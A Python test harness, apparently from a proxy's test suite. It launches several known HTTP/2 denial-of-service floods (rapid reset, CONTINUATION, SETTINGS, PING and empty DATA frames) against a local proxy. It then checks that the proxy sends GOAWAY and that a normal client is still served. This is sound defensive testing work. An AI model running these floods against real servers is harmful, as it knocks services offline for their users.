"""HTTP/2 floods against ringproxy, each on its own connection while a normal client on
another connection keeps asking.

usage: h2_attacks.py PORT MODE    MODE: rapid_reset | continuation | settings | ping | empty
Prints "goaway NAME" (the error of the GOAWAY the attacker got, or "none"), "frames N" (the
attack frames sent before it), and "normal OK/TOTAL" (the normal client's 200s)."""
import struct
import sys

from h2_frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, ERRORS, GOAWAY, HEADERS,
                       PING, RST_STREAM, SETTINGS, Client, frame, request_fields, settings)

PORT = int(sys.argv[1])
MODE = sys.argv[2]
LIMIT = 20000  # attack frames at most: far beyond every budget


class Normal:
    def __init__(self):
        self.c = Client(PORT)
        self.c.handshake()
        self.stream = 1
        self.ok = 0
        self.total = 0

    def ask(self):
        self.total += 1
        self.c.send(self.c.headers(self.stream, request_fields("/normal-%d" % self.total)))
        status, _, _, _ = self.c.response(self.stream)
        self.stream += 2
        if status == 200:
            self.ok += 1


def batches(attacker):
    """Frames of the attack, in batches of bytes to send."""
    if MODE == "rapid_reset":
        stream = 1
        while True:
            out = b""
            for _ in range(50):
                out += attacker.headers(stream, request_fields("/reset")) + \
                    frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                stream += 2
            yield out, 50
    elif MODE == "continuation":
        attacker.send(frame(HEADERS, END_STREAM, 1, attacker.block(request_fields("/cont"))))
        while True:
            yield frame(CONTINUATION, 0, 1, attacker.block([("x-filler", "f" * 200)])), 1
    elif MODE == "settings":
        while True:
            yield settings((0x4, 65535)) * 10, 10
    elif MODE == "ping":
        while True:
            yield frame(PING, 0, 0, b"pingpong") * 10, 10
    elif MODE == "empty":
        attacker.send(attacker.headers(1, request_fields("/empty", "POST"), end_stream=False))
        while True:
            yield frame(DATA, 0, 1, b"") * 10, 10
    else:
        raise SystemExit("unknown mode " + MODE)


def main():
    normal = Normal()
    normal.ask()
    attacker = Client(PORT)
    attacker.handshake()
    sent = 0
    goaway = None
    for i, (data, count) in enumerate(batches(attacker)):
        if not attacker.send(data):
            break
        sent += count
        # What the server said so far, without waiting long: a GOAWAY ends the attack.
        got = attacker.frames_until(lambda f: f.type == GOAWAY, timeout=0.001)
        if got and got[-1].type == GOAWAY:
            goaway = got[-1]
            break
        if i % 20 == 0:
            normal.ask()
        if sent >= LIMIT or attacker.closed:
            break
    if goaway is None:
        goaway = attacker.goaway(timeout=5)
    code = goaway.error_code() if goaway is not None else None
    print("goaway %s" % (ERRORS[code] if code is not None and code < len(ERRORS) else "none"))
    print("frames %d" % sent)
    for _ in range(3):
        normal.ask()
    print("normal %d/%d" % (normal.ok, normal.total), flush=True)


if __name__ == "__main__":
    main()
